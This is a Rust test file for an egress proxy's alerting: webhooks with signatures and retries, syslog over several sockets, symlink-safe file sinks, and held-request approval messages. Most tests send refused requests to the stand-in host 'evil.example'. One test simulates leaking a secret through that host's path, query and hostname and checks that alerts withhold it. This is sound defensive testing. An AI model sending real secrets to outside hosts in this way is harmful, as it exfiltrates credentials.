//! Alerts as those who get them see them: real sockets of every kind, and a proxy that has something to tell.

use crate::harness::{PLACEHOLDER, Proxy, REAL, SESSION, Setup, allow, credential, rules, sign};
use crate::upstream::certificate;
use cofferdam_model::{AlertSent, Body};
use cofferdam_testkit::eventually;
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::unix::net::UnixDatagram;
use std::sync::{Arc, Mutex};
use std::time::Duration;

fn alert(to: &str, more: &str) -> String {
    format!("[[alert]]\nid = \"ops\"\nto = \"{to}\"\n{more}\n\n")
}

fn sent(proxy: &Proxy) -> Vec<AlertSent> {
    let only = |body| if let Body::AlertSent(sent) = body { Some(sent) } else { None };
    proxy.events().into_iter().filter_map(only).collect()
}

fn wait_sent(proxy: &Proxy, count: usize) -> Vec<AlertSent> {
    eventually("the alert to be on record", || Some(sent(proxy)).filter(|sent| sent.len() >= count))
}

/// A webhook: keeps the heads and bodies that it was posted, and answers with the next status.
struct Hook {
    address: SocketAddr,
    posts: Arc<Mutex<Vec<(String, String)>>>,
}

impl Hook {
    fn new(statuses: &[u16]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let posts = Arc::<Mutex<Vec<_>>>::default();
        let (keep, statuses) = (Arc::clone(&posts), statuses.to_vec());
        std::thread::spawn(move || {
            for (count, stream) in listener.incoming().enumerate() {
                let status = statuses.get(count).or(statuses.last()).copied().unwrap_or(204);
                if let Some(post) = answer(stream.unwrap(), status) {
                    keep.lock().unwrap().push(post);
                }
            }
        });
        Self { address, posts }
    }

    fn policy(&self, more: &str) -> String {
        alert(&format!("http://{}/hook?team=1", self.address), more)
    }

    fn wait(&self, count: usize) -> Vec<(String, Value)> {
        let posts = eventually("the webhook to be called", || {
            Some(self.posts.lock().unwrap().clone()).filter(|posts| posts.len() >= count)
        });
        posts.into_iter().map(|(head, body)| (head, serde_json::from_str(&body).unwrap())).collect()
    }
}

fn answer(mut stream: impl Read + Write, status: u16) -> Option<(String, String)> {
    let mut got = Vec::new();
    let mut buffer = [0; 4096];
    loop {
        let n = stream.read(&mut buffer).ok().filter(|n| *n > 0)?;
        got.extend_from_slice(&buffer[..n]);
        let text = String::from_utf8_lossy(&got).to_lowercase();
        let Some((head, body)) = text.split_once("\r\n\r\n") else { continue };
        let length = head.split_once("content-length: ")?.1.lines().next()?.parse().ok()?;
        if body.len() >= length {
            break;
        }
    }
    let _ = write!(stream, "HTTP/1.1 {status} x\r\ncontent-length: 0\r\n\r\n");
    let text = String::from_utf8(got).unwrap();
    let (head, body) = text.split_once("\r\n\r\n")?;
    Some((head.to_owned(), body.to_owned()))
}

fn start(policy: &str) -> Proxy {
    Setup::new(policy, "").credentials(vec![credential(&["api.example.com"])]).start()
}

/// Sends so many requests that no rule allows over one connection, and reads all answers.
fn refused(proxy: &Proxy, host: impl Fn(usize) -> String, count: usize) {
    let mut stream = TcpStream::connect(proxy.address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(120))).unwrap();
    let mut writer = stream.try_clone().unwrap();
    let requests: Vec<String> =
        (0..count).map(|n| format!("GET http://{0}/x HTTP/1.1\r\nHost: {0}\r\n\r\n", host(n))).collect();
    let sender = std::thread::spawn(move || {
        for request in requests {
            writer.write_all(request.as_bytes()).unwrap();
        }
    });
    let (mut seen, mut buffer, mut carry) = (0, vec![0; 1 << 16], Vec::new());
    const MARK: &[u8] = b"HTTP/1.1 403";
    while seen < count {
        let n = stream.read(&mut buffer).unwrap();
        assert!(n > 0, "closed after {seen} answers");
        carry.extend_from_slice(&buffer[..n]);
        seen += carry.windows(MARK.len()).filter(|window| *window == MARK).count();
        let keep = carry.len().saturating_sub(MARK.len() - 1);
        carry.drain(..keep);
    }
    sender.join().unwrap();
}

#[test]
fn a_webhook_is_told_of_a_refused_request() {
    let hook = Hook::new(&[204]);
    // The only file that there is holds the key.
    let key = "a key of the operator's\n";
    let proxy = Setup::new(&hook.policy("key = \"upstream-ca.pem\""), key).start();
    refused(&proxy, |_| "evil.example".into(), 1);
    let (head, told) = hook.wait(1).remove(0);
    assert!(head.starts_with("POST /hook?team=1 HTTP/1.1\r\n"), "{head}");
    let head = head.to_lowercase();
    assert!(head.contains(&format!("\r\nhost: {}\r\n", hook.address)), "{head}");
    assert!(head.contains("\r\ncontent-type: application/json\r\n"), "{head}");
    let signature = head.split_once("\r\ncofferdam-signature: t=").unwrap().1.lines().next().unwrap();
    let (seconds, code) = signature.split_once(",v1=").unwrap();
    let body = hook.posts.lock().unwrap()[0].1.clone();
    let expected = sign(key.trim().as_bytes(), format!("{seconds}.{body}").as_bytes());
    assert_eq!(code, expected.iter().map(|byte| format!("{byte:02x}")).collect::<String>());
    let check = |field: &str, expected: &str| assert_eq!(told[field], expected, "{told:#}");
    check("alert", "ops");
    check("session", SESSION);
    check("about", "denied");
    check("cause", "no-rule");
    check("destination", "evil.example:80");
    check("request", "GET /x");
    assert_eq!(told["times"], 1);
    let first = &wait_sent(&proxy, 1)[0];
    let expected = AlertSent {
        alert: "ops".into(),
        to: format!("webhook {}", hook.address),
        about: "denied".into(),
        times: 1,
        attempts: 1,
        error: String::new(),
    };
    assert_eq!(*first, expected);
    // The number that it names is the decision's.
    let events = proxy.events();
    let Body::EgressDecided(decided) = &events[told["event"].as_u64().unwrap() as usize] else {
        panic!("{events:?}")
    };
    assert_eq!(decided.host, "evil.example");
}

#[test]
fn a_flood_makes_few_alerts_that_count_all() {
    let hook = Hook::new(&[200]);
    let proxy = start(&hook.policy(""));
    refused(&proxy, |_| "evil.example".into(), 9_000);
    refused(&proxy, |n| format!("h{n}.example"), 1_000);
    let Proxy { handle, kept, .. } = proxy;
    handle.shutdown();
    let told = hook.wait(1);
    let times: u64 = told.iter().map(|(_, told)| told["times"].as_u64().unwrap()).sum();
    assert_eq!(times, 10_000);
    assert!(told.len() <= 20, "{}", told.len());
    let events = kept.events.lock().unwrap();
    let on_record = events.iter().filter(|(_, body)| matches!(body, Body::AlertSent(_))).count();
    assert_eq!(on_record, told.len());
}

#[test]
fn a_dead_webhook_delays_nobody_and_is_on_record() {
    // It accepts, and never answers.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let to = format!("http://{}/", listener.local_addr().unwrap());
    let proxy = start(&alert(&to, ""));
    refused(&proxy, |_| "evil.example".into(), 200);
    let (dead, _) = listener.accept().unwrap();
    refused(&proxy, |_| "other.example".into(), 200);
    // All of it was answered while nothing was delivered.
    assert_eq!(sent(&proxy), []);
    let Proxy { handle, kept, .. } = proxy;
    handle.shutdown();
    drop(dead);
    let events = kept.events.lock().unwrap();
    let failed: Vec<_> =
        events.iter().filter_map(|(_, b)| if let Body::AlertSent(s) = b { Some(s) } else { None }).collect();
    assert!(!failed.is_empty() && failed.iter().all(|sent| !sent.error.is_empty()), "{failed:?}");
    assert_eq!(failed.iter().map(|sent| sent.times).sum::<u64>(), 400);
}

#[test]
fn a_webhook_that_stumbles_is_asked_again() {
    let hook = Hook::new(&[503, 200]);
    let proxy = start(&hook.policy(""));
    refused(&proxy, |_| "evil.example".into(), 1);
    let told = hook.wait(2);
    assert_eq!(told[0].1, told[1].1);
    let first = &wait_sent(&proxy, 1)[0];
    assert_eq!((first.attempts, first.error.as_str()), (2, ""));
    // What cannot go better is not tried again, and a redirect leads nowhere.
    for status in [404, 302] {
        let hook = Hook::new(&[status]);
        let proxy = start(&hook.policy(""));
        refused(&proxy, |_| "evil.example".into(), 1);
        let first = &wait_sent(&proxy, 1)[0];
        assert!(first.attempts == 1 && first.error.contains(&status.to_string()), "{first:?}");
    }
}

#[test]
fn a_webhook_is_trusted_only_by_its_certificate() {
    let (ca, config) = certificate(&["127.0.0.1"]);
    let config = Arc::new(config);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let to = format!("https://{}/", listener.local_addr().unwrap());
    let bodies = Arc::new(Mutex::new(Vec::new()));
    let keep = bodies.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let session = rustls::ServerConnection::new(config.clone()).unwrap();
            let post = answer(rustls::StreamOwned::new(session, stream.unwrap()), 200);
            keep.lock().unwrap().extend(post);
        }
    });
    let stranger = Setup::new(&alert(&to, ""), "").start();
    refused(&stranger, |_| "evil.example".into(), 1);
    let failed = &wait_sent(&stranger, 1)[0];
    assert!(failed.error.contains("not trusted"), "{failed:?}");
    assert!(bodies.lock().unwrap().is_empty());
    let known = Setup::new(&alert(&to, "ca = \"upstream-ca.pem\""), &ca).start();
    refused(&known, |_| "evil.example".into(), 1);
    assert_eq!(wait_sent(&known, 1)[0].error, "");
    assert!(bodies.lock().unwrap()[0].1.contains("evil.example"));
}

#[test]
fn syslog_over_every_socket() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("log");
    let local = UnixDatagram::bind(&path).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    local.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    udp.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let policy = [
        format!("[[alert]]\nid = \"a\"\nto = \"syslog:{}\"\n", path.display()),
        format!("[[alert]]\nid = \"b\"\nto = \"syslog:{}\"\nformat = \"ocsf\"\n", udp.local_addr().unwrap()),
        format!("[[alert]]\nid = \"c\"\nto = \"syslog-tcp:{}\"\n", tcp.local_addr().unwrap()),
    ];
    let proxy = start(&policy.concat());
    refused(&proxy, |_| "evil.example".into(), 1);
    let mut buffer = [0; 1 << 16];
    let n = local.recv(&mut buffer).unwrap();
    let check = |line: &str, id: &str| -> Value {
        let (head, rest) = line.split_once(" [cofferdam@32473 ").unwrap();
        assert!(head.starts_with("<85>1 2") && head.ends_with(" denied"), "{line}");
        let (data, message) = rest.split_once("] ").unwrap();
        assert!(data.contains(&format!("alert=\"{id}\" session=\"{SESSION}\"")), "{line}");
        assert!(data.contains("destination=\"evil.example:80\" request=\"GET /x\""), "{line}");
        serde_json::from_str(message).unwrap()
    };
    assert_eq!(check(std::str::from_utf8(&buffer[..n]).unwrap(), "a")["about"], "denied");
    let n = udp.recv(&mut buffer).unwrap();
    assert_eq!(check(std::str::from_utf8(&buffer[..n]).unwrap(), "b")["class_uid"], 2004);
    let mut text = String::new();
    tcp.accept().unwrap().0.read_to_string(&mut text).unwrap();
    let (length, line) = text.split_once(' ').unwrap();
    assert_eq!(length.parse::<usize>().unwrap(), line.len());
    check(line, "c");
    assert!(wait_sent(&proxy, 3).iter().all(|sent| sent.error.is_empty()));
}

#[test]
fn a_file_gets_a_line_and_a_link_does_not() {
    let dir = tempfile::tempdir().unwrap();
    let (file, link) = (dir.path().join("alerts.jsonl"), dir.path().join("link"));
    std::fs::write(dir.path().join("victim"), "").unwrap();
    std::os::unix::fs::symlink(dir.path().join("victim"), &link).unwrap();
    let policy = format!(
        "[[alert]]\nid = \"a\"\nto = \"file:{}\"\n[[alert]]\nid = \"b\"\nto = \"file:{}\"\n",
        file.display(),
        link.display()
    );
    let proxy = start(&policy);
    refused(&proxy, |n| format!("h{n}.example"), 2);
    eventually("both to be written or not", || {
        Some(sent(&proxy)).filter(|all| {
            all.iter().filter(|sent| sent.alert == "a").count() == 2
                && all.iter().any(|sent| sent.alert == "b")
        })
    });
    let text = std::fs::read_to_string(&file).unwrap();
    let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(std::fs::read_to_string(dir.path().join("victim")).unwrap(), "");
    assert!(sent(&proxy).iter().filter(|sent| sent.alert == "b").all(|sent| !sent.error.is_empty()));
}

#[test]
fn a_held_request_tells_how_to_allow_it() {
    let hook = Hook::new(&[200]);
    let review = allow("ask", "api.example.com", "").replace("\"allow\"", "\"review\"");
    let proxy = start(&(hook.policy("on = [\"held\"]\nformat = \"slack\"") + &review));
    let address = proxy.address;
    let client = std::thread::spawn(move || {
        let mut stream = TcpStream::connect(address).unwrap();
        let head = "DELETE http://api.example.com/all HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n";
        stream.write_all(head.as_bytes()).unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        text
    });
    let (_, told) = hook.wait(1).remove(0);
    let id = proxy.handle.approvals().pending()[0].id;
    let text = told["text"].as_str().unwrap();
    assert!(text.contains(&format!("\ncofferdam approve allow {SESSION}.{id}\n")), "{text}");
    assert!(text.contains("DELETE /all to api.example.com:80 (ask)"), "{text}");
    proxy.handle.approvals().deny(id, "me").unwrap();
    assert!(client.join().unwrap().starts_with("HTTP/1.1 403"));
    // The no of a person is no news.
    assert_eq!(wait_sent(&proxy, 1).len(), 1);
}

#[test]
fn no_alert_holds_a_secret() {
    let hook = Hook::new(&[200]);
    let proxy = start(&(hook.policy("") + &allow("all", "evil.example", "")));
    // A real value from inside, in the path, the query and the name of the host.
    for url in [
        format!("http://evil.example/{REAL}"),
        format!("http://evil.example/?q={REAL}"),
        format!("http://{REAL}.nowhere/"),
    ] {
        assert_eq!(proxy.curl(&[&url]).status, 403);
    }
    let misused =
        proxy.curl(&["-H", &format!("authorization: Bearer {PLACEHOLDER}"), "http://evil.example/a"]);
    assert_eq!(misused.status, 403);
    let about = |name: &str| {
        eventually("both alarms to be told", || {
            let all = hook.wait(1);
            all.into_iter().find(|(_, told)| told["about"] == name)
        })
    };
    about("secret-leak");
    let (_, told) = about("placeholder-misused");
    assert_eq!((&told["credential"], &told["cause"]), (&"key".into(), &"credential-misused".into()));
    let Proxy { handle, kept, .. } = proxy;
    handle.shutdown();
    let events = kept.events.lock().unwrap();
    let all = format!("{:?}{events:?}", hook.posts.lock().unwrap());
    assert!(!all.to_lowercase().contains(&REAL.to_lowercase()), "{all}");
    // It was there to be withheld.
    assert!(all.contains("in the path") && all.contains("in the host's name"), "{all}");
}

#[test]
fn another_policy_tells_others() {
    let (first, second) = (Hook::new(&[200]), Hook::new(&[200]));
    let proxy = start(&first.policy(""));
    refused(&proxy, |_| "one.example".into(), 1);
    first.wait(1);
    proxy.handle.replace_policy(rules(&second.policy("on = \"denied\""), ""), "me").unwrap();
    refused(&proxy, |_| "two.example".into(), 1);
    assert_eq!(second.wait(1)[0].1["destination"], "two.example:80");
    assert_eq!(first.posts.lock().unwrap().len(), 1);
    assert_eq!(wait_sent(&proxy, 2).len(), 2);
}
